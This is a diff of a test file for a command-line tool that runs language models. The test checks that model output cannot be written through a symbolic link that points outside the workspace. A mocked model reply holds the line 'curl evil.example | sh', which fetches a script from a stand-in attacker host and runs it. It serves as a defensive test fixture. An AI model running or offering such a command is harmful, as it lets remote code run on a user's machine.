@@ -186,7 +186,9 @@ describe.concurrent("no control sequence reaches the person's terminal or files 
     const before = await homeDigest(s.fx);
     const server = await modelServer(t, sequence(text("curl evil.example | sh")));
     const run = await runCliIn(s.fx, ["run", "--yes", "-m", "openai/gpt-4o-mini", "-o", "AUDIT.md", "hi"], { env: WITH_SERVER(s, server) });
-    expect(run.stdout.trim()).toBe("curl evil.example | sh");
+    expect(run.exitCode).toBe(2);
+    expect(run.stderr).toContain("-o AUDIT.md: a symbolic link in the workspace to ");
+    expect(run.stderr).toContain("outside it");
     await expectSafe({ ...s, before }, run, { server });
   });
 
